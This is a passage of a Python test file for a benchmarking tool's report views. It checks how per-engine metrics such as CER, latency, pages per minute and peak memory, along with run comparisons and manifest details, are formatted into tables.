        metrics={"cer": MetricSummary(value=cer, ci_low=0.1, ci_high=0.4, n=3, direction="lower")},
        fields={"total": FieldScore(accuracy=0.75, n=4)},
        latency_mean_s=1.5,
        latency_p50_s=1.25,
        latency_p95_s=2.75,
        pages=4,
        pages_per_minute=40.0,
        output_tokens_per_s=None,
        peak_rss_bytes=rss,
    )


def test_run_detail_table_has_every_number_per_engine() -> None:
    summary = Summary(
        run_id="r",
        items_total=8,
        items_recorded=8,
        complete=True,
        bootstrap_resamples=1000,
        bootstrap_seed=0,
        engines=[
            _engine_summary("a", 0.25, 1_901_000_000),
            _engine_summary("b", 0.5, None).model_copy(update={"pages_per_minute": 1590.0}),
        ],
    )
    table = views.run_detail_table(summary).set_index("quantity")

    assert list(table.columns) == ["better", "a", "b"]
    assert table.loc["items (ok / errors / skipped)", "a"] == "3 / 1 / 0"
    assert table.loc["cer", "a"] == "0.25 [0.1, 0.4] (n=3)"
    assert table.loc["cer", "better"] == "lower"
    assert table.loc["field total", "b"] == "0.75 (n=4)"
    assert table.loc["latency p95 (s)", "a"] == "2.75"
    assert table.loc["pages / minute", "a"] == "40"
    assert table.loc["pages / minute", "b"] == "1590"  # not "1.59e+03"
    assert table.loc["peak RSS", "a"] == "1.77 GiB"
    assert pd.isna(table.loc["peak RSS", "b"])  # blank cells on the page
    assert pd.isna(table.loc["output tokens / s", "a"])


def test_comparison_shows_memory_in_mib_or_gib_and_engines_of_one_run(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    fakes.add(FakeEngine(name="one"))
    fakes.add(FakeEngine(name="two"))
    outcome = run_benchmark(
        loaded, request(pairs_set, engines=["one", "two"]), engine_factory=fakes
    )
    compared = views.comparison_table(compare_runs(loaded.config.data_dir, [outcome.run_id]))

    deltas = [c for c in compared.columns if c.startswith("Δ")]
    assert len(deltas) == 1 and deltas[0].endswith(" · two")  # "one" is the baseline
    memory = compared.set_index("metric").loc["peak RSS"]
    assert re.fullmatch(r"[\d.]+ (MiB|GiB)", memory.iloc[1])
    assert re.fullmatch(r"[+-][\d.]+ (MiB|GiB)( [▲▼])?", memory[deltas[0]])


def test_manifest_table_names_versions_hashes_and_hardware(
    loaded: LoadedConfig, pairs_set: Path, fakes: FakeEngines
) -> None:
    fakes.add(FakeEngine())
    outcome = run_benchmark(loaded, request(pairs_set), engine_factory=fakes)
    manifest = open_run(loaded.config.data_dir, outcome.run_id).manifest
    facts = dict(views.manifest_table(manifest).itertuples(index=False))

    assert facts["profile SHA-256"] == loaded.sha256
    assert facts["dataset hash"] == manifest.dataset.content_hash
    assert facts["engine fake"] == "fake, 1 in flight"
    assert facts["RAM"].endswith(("MiB", "GiB")) and facts["CPU cores"].isdigit()
    assert facts["version of python"] == manifest.versions["python"]
